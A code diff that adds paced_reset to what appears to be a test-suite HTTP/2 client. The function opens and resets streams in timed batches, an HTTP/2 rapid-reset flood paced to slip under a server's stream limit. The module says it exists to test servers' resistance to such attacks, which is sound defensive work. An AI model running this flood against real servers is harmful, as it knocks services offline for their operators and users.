@@ -1,4 +1,4 @@
-"""A raw HTTP/2 client for the attacks gRPC itself cannot make: rapid reset.
+"""A raw HTTP/2 client for the attacks gRPC itself cannot make: rapid reset and the like.
 
 The ``h2`` protocol core frames the connection; this module only moves its
 bytes over a socket, so what goes on the wire is exactly what the test asks for.
@@ -102,6 +102,49 @@ def rapid_reset(
                 replies += connection.data_to_send()
         writer.join(timeout)
     return outcome
+
+
+def paced_reset(
+    address: str, path: str, streams: int, *, batch: int = 100, pause: float = 0.003
+) -> bool:
+    """Open and reset ``streams`` streams, ``batch`` at a time ``pause`` seconds apart.
+
+    Paced so that the server clears its stream map between batches: each batch
+    fits under a stream bound of ``batch`` or more. Returns ``False`` if the
+    server ended the connection first.
+    """
+    host, _, port = address.rpartition(":")
+    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
+    connection = h2.connection.H2Connection(config=config)
+    connection.initiate_connection()
+    headers = _headers(address, path)
+    with socket.create_connection((host, int(port)), timeout=30) as sock:
+        sock.sendall(connection.data_to_send())
+        for start in range(0, streams, batch):
+            for _ in range(min(batch, streams - start)):
+                stream_id = connection.get_next_available_stream_id()
+                connection.send_headers(stream_id, headers)
+                connection.reset_stream(stream_id)
+            try:
+                sock.sendall(connection.data_to_send())
+                time.sleep(pause)
+                sock.setblocking(False)
+                data = sock.recv(1 << 20)
+            except BlockingIOError:
+                continue
+            except OSError:
+                return False
+            finally:
+                sock.setblocking(True)
+            try:
+                events = connection.receive_data(data) if data else None
+            except h2.exceptions.ProtocolError:
+                return False
+            if events is None or any(
+                isinstance(event, h2.events.ConnectionTerminated) for event in events
+            ):
+                return False
+    return True
 
 
 @dataclass
